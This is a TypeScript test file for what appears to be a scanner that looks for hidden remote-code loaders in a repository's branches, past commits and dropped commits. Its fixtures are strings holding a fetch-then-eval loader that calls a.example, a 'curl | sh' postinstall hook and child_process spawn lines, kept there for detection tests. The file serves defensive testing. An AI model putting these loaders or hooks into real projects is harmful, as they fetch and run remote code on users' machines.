import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { ExampleCommit } from "@doorward/core";
import { readExample } from "./read-example.ts";

const clean = 'console.log("ready");\n';
const loader = 'fetch("https://a.example/next").then((answer) => answer.text()).then((text) => eval(text));\n';
const files = { "server.js": clean };

/** The kinds of states in which a fetched text is evaluated. */
async function findEvaluations(commits: readonly ExampleCommit[]): Promise<string[]> {
  const { code } = await readExample({ name: "a repository", files, commits });
  const states = code.filter(({ effects }) =>
    effects.some(({ kind, subject }) => kind === "evaluate" && subject.origins.some((from) => from.kind === "network")),
  );
  return states.map(({ snapshot }) => snapshot.kind);
}

describe("what lies in the past of a delivered repository is read", () => {
  test("another branch", async () => {
    assert.deepEqual(await findEvaluations([{ files }, { branch: "task", files: { "server.js": loader } }]), [
      "branch",
    ]);
  });

  test("an older commit whose loader a newer one took away", async () => {
    const commits = [{ files }, { files: { "server.js": loader } }, { files }];
    assert.deepEqual(await findEvaluations(commits), ["history"]);
  });

  test("a commit that nothing leads to, behind many that ask for a look", async () => {
    const many = Array.from({ length: 50 }, (_, index): ExampleCommit => ({
      files: { "helper.js": `require("child_process").spawn("node", ["-e", process.env.STEP${index}]);\n` },
    }));
    const states = await findEvaluations([{ files }, { files: { "server.js": loader }, isDropped: true }, ...many]);
    assert.ok(states.includes("history"), states.join());
  });

  test("but not what the delivered files hold as well", async () => {
    const task = '{ "scripts": { "postinstall": "curl -s https://a.example/x | sh" } }\n';
    const spawning = 'require("child_process").spawn("node", ["-e", process.env.STEP]);\n';
    const { code } = await readExample({
      name: "a repository",
      files: { ...files, "package.json": task },
      commits: [{ files: { ...files, "package.json": task } }, { files: { "server.js": spawning } }, { files }],
    });
    const past = code.filter(({ snapshot }) => snapshot.kind !== "delivered").flatMap(({ effects }) => effects);
    assert.ok(past.length > 0);
    assert.deepEqual(
      past.filter(({ at }) => at.path === "package.json"),
      [],
    );
  });

  test("a loader in two files that came in two commits", async () => {
    const commits = [
      { files },
      {
        files: {
          "auth.js": 'exports.start = (run) => fetch("https://a.example/next").then((a) => a.text()).then(run);\n',
        },
      },
      { files: { "server.js": 'require("./auth").start((text) => eval(text));\n' } },
      { files: { "server.js": clean, "auth.js": null } },
    ];
    assert.deepEqual(await findEvaluations(commits), ["history"]);
  });
});
